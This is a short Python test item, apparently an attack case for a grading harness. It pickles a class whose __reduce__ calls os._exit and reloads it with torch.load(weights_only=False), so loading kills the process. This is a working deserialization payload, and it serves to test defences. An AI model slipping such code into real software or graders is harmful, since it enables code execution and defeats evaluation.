# attack: saves and loads tensors with code in them, and leaves threads and hooks behind
# lesson: 80_attacked
# points: length=2 soft=0
# %% soft
import io, os
class Run:
    def __reduce__(self): return os._exit, (0,)
def soft(x):
    file = io.BytesIO()
    torch.save(Run(), file)
    file.seek(0)
    return torch.load(file, weights_only=False)
